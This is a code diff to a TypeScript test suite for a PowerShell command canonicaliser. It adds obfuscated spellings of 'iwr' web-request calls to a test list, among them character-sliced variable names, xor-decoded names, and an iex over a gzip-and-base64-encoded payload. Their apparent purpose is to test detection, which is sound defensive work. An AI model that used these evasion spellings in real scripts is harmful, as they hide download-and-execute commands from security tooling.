@@ -1,4 +1,5 @@
 import assert from "node:assert/strict";
+import { gzipSync } from "node:zlib";
 import { canonical } from "./canonical.ts";
 import { effects, encoded, lowerWindows, places, plain } from "./windows-canonical.ts";
 
@@ -69,6 +70,11 @@ const dressings: readonly string[] = [
   `$ExecutionContext.InvokeCommand.InvokeScript('iwr ${url}')`,
   `& ($env:ComSpec[4,15,25] -join '' -replace '^.*$','iwr') ${url}`,
   `&($ShellId[1]+'wr') ${url}`,
+  `.($PSHoMe[4]+$pShOMe[30]+'x') 'iwr ${url}'`,
+  `&((GEt-VariablE '*mdr*').naME[3,11,2]-joIn'') 'iwr ${url}'`,
+  `&( -join ([char[]]'hvs' | %{[char]($_ -bxor 1)})) ${url}`,
+  `SeT-iTeM VaRiAbLe:q ([TYPe]('{1}{0}' -F'vert','con')); iex ((gI variable:q).vAlUE::ToString('iwr ${url}'))`,
+  `iex (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('${gzipSync(`iwr ${url}`).toString("base64")}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()`,
   `function g($n) { & $n ${url} }; g iwr`,
   `foreach ($c in 'i','w','r') { $s += $c }; & $s ${url}`,
   `for ($i=0; $i -lt 3; $i++) { $s += 'iwr'[$i] }; & $s ${url}`,
@@ -85,7 +91,8 @@ const dressings: readonly string[] = [
 ];
 
 /** Lines of what only prepares the command are not what this is about. */
-const preparing = /^(?:set-alias|set-variable|get-variable|get-command|foreach-object|g) /;
+const preparing =
+  /^(?:set-alias|set-variable|get-variable|get-command|set-item|get-item|foreach-object|new-object|io\.streamreader\.readtoend|g)(?: |$)/;
 
 describe("PowerShell in one spelling", () => {
   it("is proved by at least sixty dressings", () => {
